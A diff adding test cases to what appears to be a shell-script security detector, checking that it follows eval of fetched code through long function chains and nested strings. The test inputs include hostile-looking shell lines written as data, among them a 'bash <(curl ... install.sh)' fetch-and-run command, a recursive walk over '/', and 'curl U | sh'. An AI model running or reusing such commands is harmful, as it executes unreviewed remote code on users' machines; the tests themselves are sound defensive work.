@@ -6,7 +6,16 @@ import { assertSound } from "./invariants.js";
 
 const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
 
+/** Functions that go through a tree, and call one another with longer and longer paths. */
+const walk = `walk() { for d in "$1"/*; do walk "$d"; visit "$d"; walk "$d/x"; done; }
+visit() { walk "$1"; walk "$2"; visit "$3"; visit "$4"; }
+scan() { walk "$1"; visit "$1"; scan "$2"; scan "$3"; }
+scan / && visit / && walk /
+${FETCH}
+`;
+
 const programs: Readonly<Record<string, string>> = {
+  "functions that go through a tree": walk,
   "a chain of 40 functions": chain(40),
   "a chain of 4,000 functions": chain(4000),
   "6 functions that call each other": clique(6),
@@ -74,6 +83,37 @@ describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
     expect(detection.findings.map((finding) => finding.text)).toEqual(['eval "$1"']);
     expect(detection.outcome.status).toBe("incomplete");
   });
+
+  it.each([
+    ["code", 300, "'curl U | sh'", ['eval "$1"']],
+    ["fetched text", 300, '"$(curl U)"', ['eval "$1"']],
+    ["plain words", 300, "'curl U | jq'", []],
+    ["a file", 300, '"$(curl -o f U)"', []],
+  ])("%s are followed through %i functions", async (_, length, given, found) => {
+    const links = range(length).map((at) => `f${String(Number(at) + 1)}() { f${at} "$1"; }`);
+    const text = ['f0() { eval "$1"; }', ...links, `f${String(length)} ${given}`, ""].join("\n");
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(
+      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
+    ).toEqual(found);
+    expect(detection.outcome).toEqual({ status: "complete" });
+  });
+
+  it.each([
+    [13, ['eval "$v13"'], "complete"],
+    [60, [], "incomplete"],
+  ])(
+    "%i code strings in one another are read or reported as not read",
+    async (depth, found, status) => {
+      const strings = range(depth).map((at) => `v${String(Number(at) + 1)}='eval "$v${at}"'`);
+      const text = ["v0='curl U | sh'", ...strings, `eval "$v${String(depth)}"`, ""].join("\n");
+      const detection = (await sharedDetector(profile)).detect(text);
+      assertSound(text, detection);
+      expect(detection.findings.map((finding) => finding.text)).toEqual(found);
+      expect(detection.outcome.status).toBe(status);
+    },
+  );
 
   it.each([
     ['f() { eval "$S"; }\nS=$(curl A)\nf\n', ['eval "$S"']],
